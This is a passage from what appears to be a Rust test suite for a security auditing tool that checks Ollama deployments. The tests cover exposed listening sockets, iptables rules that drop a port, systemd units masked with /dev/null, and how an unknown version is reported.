    fx.sockets(&[("0.0.0.0:8080", 0x0A, 4001), ("0.0.0.0:11434", 0x0A, 4002)]);
    let drop_11434 =
        "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p tcp -m tcp --dport 11434 -j DROP\nCOMMIT\n";
    fx.write("/corral-fixtures/iptables-save.txt", drop_11434);
    let r = run(&fx.opts()).unwrap();
    let s = with_id(&r, "socket.exposed");
    assert_eq!(s.len(), 2, "{s:#?}");
    let on_8080 = s.iter().find(|f| f.title.contains(":8080")).unwrap();
    assert_eq!(on_8080.severity, Severity::Critical, "{on_8080:#?}");
    assert!(
        !on_8080.title.contains("firewall drops"),
        "{}",
        on_8080.title
    );
    let on_11434 = s.iter().find(|f| f.title.contains(":11434")).unwrap();
    assert_eq!(on_11434.severity, Severity::High);
    assert!(on_11434.title.contains("firewall drops"));
}

#[test]
fn a_unit_masked_with_dev_null_hides_the_packaged_unit() {
    // `systemctl mask ollama` links /etc/systemd/system/ollama.service to /dev/null: the
    // packaged unit below it does not apply, so its settings are not the service's.
    let fx = Fx::new();
    fx.write(
        "/usr/lib/systemd/system/ollama.service",
        "[Service]\nEnvironment=OLLAMA_HOST=0.0.0.0\n",
    );
    let masked = fx.path("/etc/systemd/system/ollama.service");
    std::fs::create_dir_all(masked.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink("/dev/null", &masked).unwrap();
    let r = run(&fx.opts()).unwrap();
    assert!(with_id(&r, "config.host").is_empty(), "{:#?}", r.findings);
    assert_eq!(
        r.unit_files,
        vec!["/etc/systemd/system/ollama.service".to_string()]
    );
}

/// Under a --root that is not this host nothing is asked over the network: the unknown version's
/// evidence says so and names the file that would have told, not a probe that never happened.
#[test]
fn an_unknown_version_under_a_fixture_root_says_why() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.interfaces();
    let r = run(&fx.opts()).unwrap();
    let unknown = with_id(&r, "version.unknown");
    assert_eq!(unknown.len(), 1, "{:#?}", r.findings);
    let note = unknown[0]
        .evidence
        .iter()
        .map(|e| e.detail.as_str())
        .collect::<String>();
    assert!(note.contains("is not this host"), "{note}");
    assert!(note.contains("version.json"), "{note}");
    assert!(!note.contains("nothing answered"), "{note}");
}
